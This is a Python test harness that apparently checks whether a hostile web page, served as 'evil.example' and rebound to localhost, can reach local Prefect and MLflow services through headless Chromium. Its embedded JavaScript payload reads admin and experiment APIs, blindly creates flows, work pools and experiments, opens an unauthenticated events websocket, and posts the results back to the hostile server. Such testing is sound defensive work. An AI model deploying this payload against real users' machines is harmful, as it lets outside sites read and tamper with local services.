"""A real browser without a window, and a web page that means harm: what it got goes back to the server that it came from."""

import json
import os
import queue
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Self

CHROMIUM = next((found for name in ("chromium", "chromium-browser", "google-chrome") if (found := shutil.which(name))), None)
EVIL = "evil.example"
RULES = f"MAP {EVIL} 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
"""Whom the browser finds under which name: the page's name is this machine's, as after a rebinding."""


def command(profile: Path, *words: str) -> list[str]:
    assert CHROMIUM is not None
    flags = ["--headless", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-component-update"]
    rooted = ["--no-sandbox"] if os.geteuid() == 0 else []
    return [CHROMIUM, *flags, *rooted, f"--user-data-dir={profile}", f"--host-resolver-rules={RULES}", *words]


def page_text(profile: Path, address: str) -> str:
    """Return what a page has become once it has loaded what it wanted; the browser prints nothing of one that is just being left."""
    words = command(profile, "--virtual-time-budget=30000", "--dump-dom", address)
    shown = ""
    for _ in range(4):
        shown = shown.strip() or subprocess.run(words, capture_output=True, text=True, timeout=70, check=True).stdout
    return shown


class Hostile:
    """A web server with one page, and what the page told of its doings."""

    def __init__(self, script: str) -> None:
        page = f"<!doctype html><title>kittens</title><script>{script}</script>".encode()
        told: queue.Queue[Any] = queue.Queue()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._answer(page)

            def do_POST(self) -> None:
                told.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self._answer(b"")

            def _answer(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.told, self.server = told, ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://{EVIL}:{self.server.server_address[1]}/"

    def __enter__(self) -> Self:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self.server.shutdown()
        self.server.server_close()

    def visit(self, profile: Path) -> dict[str, str]:
        """Let a browser open the page; return what came of each thing that it tried."""
        with open_browser(profile, self.address):
            found = self.told.get(timeout=120)
        assert isinstance(found, dict)
        return found


@contextmanager
def open_browser(profile: Path, address: str) -> Iterator[None]:
    words = command(profile, address)
    browser = subprocess.Popen(words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        yield
    finally:
        os.killpg(browser.pid, signal.SIGKILL)
        browser.wait()


TRIES = """
const tell = {}, tries = [];
const soon = (promise, name) => tries.push(Promise.race([promise, new Promise(done => setTimeout(() => done("silence"), 8000))])
  .catch(() => "refused").then(found => { tell[name] = found; }));
const flow = name => new Blob([JSON.stringify({name, type: "process"})]);
for (const host of ["127.0.0.1", "localhost", "evil.example"]) {
  const prefect = `http://${host}:PREFECT`, mlflow = `http://${host}:MLFLOW`;
  soon(fetch(`${prefect}/api/admin/version`).then(a => a.text()), `read ${host}`);
  soon(fetch(`${prefect}/enter`).then(a => a.text()), `enter ${host}`);
  soon(fetch(`${prefect}/api/deployments/filter`, {method: "POST", body: flow("")}).then(a => a.text()), `filter ${host}`);
  soon(fetch(`${prefect}/api/flows/`, {method: "POST", mode: "no-cors", credentials: "include", body: flow("evil-flow")})
    .then(a => a.type), `flow ${host}`);
  soon(fetch(`${prefect}/api/work_pools/`, {method: "POST", mode: "no-cors", body: flow("evil-pool")}).then(a => a.type), `pool ${host}`);
  soon(fetch(`${mlflow}/api/2.0/mlflow/experiments/search?max_results=9`).then(a => a.text()), `experiments ${host}`);
  soon(fetch(`${mlflow}/api/2.0/mlflow/experiments/create`, {method: "POST", mode: "no-cors", body: flow("evil-experiment")})
    .then(a => a.type), `experiment ${host}`);
  soon(new Promise(done => {
    const socket = new WebSocket(`ws://${host}:PREFECT/api/events/in`, "prefect");
    socket.onopen = () => socket.send(JSON.stringify({type: "auth", token: null}));
    socket.onmessage = event => done(event.data);
    socket.onclose = () => done("closed");
  }), `socket ${host}`);
}
Promise.all(tries).then(() => fetch("/", {method: "POST", body: JSON.stringify(tell)}));
"""
"""What a hostile page can do without asking its reader: read, write blindly, open web sockets, under three names."""
